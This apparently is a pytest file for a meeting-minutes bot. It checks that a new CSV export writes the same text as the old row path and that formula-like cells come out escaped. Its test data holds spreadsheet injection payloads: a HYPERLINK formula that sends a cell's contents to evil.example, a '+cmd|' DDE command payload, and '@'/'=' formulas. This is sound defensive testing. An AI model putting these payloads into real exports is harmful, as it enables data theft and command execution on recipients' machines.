"""`items --format csv` (export_csv.py: cells from the query) writes the same text as the row path it replaced
(export_formats.write_csv over exports.iter_items), for every status, filter and kind of row."""
import io
from datetime import timedelta

import pytest

from minutebot.admin import export_csv, export_formats, exports
from minutebot.cli import main
from test_items import WED_16, reply, tracked          # noqa: F401  (tracked is a fixture)

HOSTILE = {"task": ['=HYPERLINK("http://evil.example/?d="&B3,"x")', "\t缩进的事项", "@SUM(1)", "-1 进度"],
           "department": ["+财务部", None, "\r研发部", "采购部"]}


def both(bot, filters, now, lang="zh"):
    """(the query path's text, the row path's text) for these filters at `now`."""
    view = exports.View(bot.app.roster, bot.app.calendar, lang, 2)
    fast, rows = io.StringIO(), io.StringIO()
    export_csv.write_items_csv(bot.app.store, filters, view=view, now=now, out=fast)
    export_formats.write_csv(exports.iter_items(bot.app.store, filters, view=view, now=now, history=False), rows)
    return fast.getvalue(), rows.getvalue()


@pytest.fixture
def varied(tracked, now):
    """The tracked meeting plus an extension with a note, a flag, no percent, and hostile text in every column."""
    recap = tracked.sent()[0]
    tracked.drop(reply("第3项延期至10月25日，因为=供应商晚到", "陈明 <chenming@xinghe.cn>", recap,
                       now + timedelta(days=1, hours=1)))
    tracked.tick(now + timedelta(days=1, hours=1, minutes=5))
    store = tracked.app.store
    with store.atomic():
        store.db.execute("UPDATE items SET flags = ?, percent = 40 WHERE number = 2", ['["vague_due"]'])
        store.db.execute("UPDATE meetings SET title = ?, organizer_name = ?", ["+cmd|' /C calc'!A0", "@x"])
    return tracked


def test_every_status_and_day_reads_the_same_as_the_row_path(varied):
    for status in exports.STATUSES:
        for now in (WED_16 - timedelta(days=3), WED_16, WED_16 + timedelta(days=20)):
            for lang in ("zh", "en"):
                fast, rows = both(varied, exports.Filters(status), now, lang)
                assert fast == rows, (status, now, lang)
    fast, _ = both(varied, exports.Filters("all"), WED_16 + timedelta(days=20))
    assert "'+cmd|" in fast and "已延期至2024-10-25" in fast and fast.count("\n") == 4


def test_hostile_cells_and_filters_read_the_same_as_the_row_path(varied):
    store = varied.app.store
    with store.atomic():
        for number in range(1, 4):
            store.db.execute("UPDATE items SET task = ?, department = ?, note = ? WHERE number = ?",
                             [HOSTILE["task"][number], HOSTILE["department"][number], "=1+1", number])
    late = WED_16 + timedelta(days=20)
    for filters in (exports.Filters("all", department="产品部"), exports.Filters("all", department="\r研发部"),
                    exports.Filters("overdue", department="采购部"), exports.Filters("all", owner="王芳"),
                    exports.Filters("open", meeting=1), exports.Filters("all", meeting=2)):
        fast, rows = both(varied, filters, late)
        assert fast == rows, filters
    fast, _ = both(varied, exports.Filters("all"), late)
    assert "'\t缩进的事项" in fast and "'\r研发部" in fast and "'=1+1" in fast


def test_the_command_writes_the_query_path_with_a_bom_to_a_file(varied, tmp_path, capsys):
    config = str(varied.root / "minutebot.toml")
    assert main(["--config", config, "items", "--status", "all", "--format", "csv", "-o", str(tmp_path / "i.csv")]) == 0
    assert main(["--config", config, "items", "--status", "all", "--format", "csv"]) == 0
    printed = capsys.readouterr().out
    assert (tmp_path / "i.csv").read_bytes() == b"\xef\xbb\xbf" + printed.encode("utf-8")
    assert printed.splitlines()[0] == ",".join(export_formats.CSV_COLUMNS)
